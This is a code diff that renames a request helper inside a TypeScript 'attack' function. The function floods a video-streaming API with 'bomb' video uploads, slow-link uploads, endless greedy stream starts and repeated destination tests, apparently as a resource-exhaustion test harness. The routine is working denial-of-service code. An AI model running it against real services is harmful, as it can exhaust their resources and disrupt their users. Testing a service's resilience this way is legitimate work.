@@ -41,35 +41,35 @@ export async function attack(call: Call, bombUrl: string): Promise<Attack> {
   const slow = createSlowServer();
   const silent = createServer((socket) => socket.on('error', () => undefined));
   const [slowPort, silentPort] = [await listen(slow), await listen(silent)];
-  const tell = async (what: string, method: string, path: string, body?: unknown) => {
+  const send = async (what: string, method: string, path: string, body?: unknown) => {
     await sleep(BETWEEN_REQUESTS_MS, over.signal);
     const answer = await call(method, path, body);
     const key = `${what} ${answer.status}`;
     answers.set(key, (answers.get(key) ?? 0) + 1);
     return answer.body;
   };
-  const upload = (what: string, url: string) => tell(what, 'POST', '/uploads/from-link', { type: 'VIDEO', url });
+  const upload = (what: string, url: string) => send(what, 'POST', '/uploads/from-link', { type: 'VIDEO', url });
   const rtmpUrl = `rtmp://127.0.0.1:${silentPort}/live`;
-  const destination = await tell('destination', 'POST', '/destinations', { name: 'silent', rtmpUrl, rtmpKey: 'k' });
+  const destination = await send('destination', 'POST', '/destinations', { name: 'silent', rtmpUrl, rtmpKey: 'k' });
   const bombs: string[] = [];
   for (let n = 0; n < 4; n++) bombs.push((await upload('bomb', `${bombUrl}?${n}`))?.objectID);
   const again = async (wave: (n: number) => Promise<unknown>, waves = Number.POSITIVE_INFINITY) => {
     for (let n = 0; n < waves && !over.signal.aborted; n++) await wave(n).catch(() => undefined);
   };
   const stream = async (n: number) => {
-    const made = await tell('stream', 'POST', '/streams', {
+    const made = await send('stream', 'POST', '/streams', {
       name: `greedy-${n}`,
       quality: QUALITIES[n % QUALITIES.length],
       framerate: 'f_30',
       destinationID: destination?.id,
       videoUploadObjectID: bombs[n % bombs.length],
     });
-    if (made?.id) await tell('start', 'POST', `/streams/${made.id}/start?whenReady=true`);
+    if (made?.id) await send('start', 'POST', `/streams/${made.id}/start?whenReady=true`);
   };
   const running = [
     again((n) => upload('slow link', `http://127.0.0.1:${slowPort}/slow-${n}.mp4`), 60),
     again(stream, STREAMS),
-    again(() => tell('test', 'POST', `/destinations/${destination?.id}/test`)),
+    again(() => send('test', 'POST', `/destinations/${destination?.id}/test`)),
   ];
   await sleep(10_000);
   return {
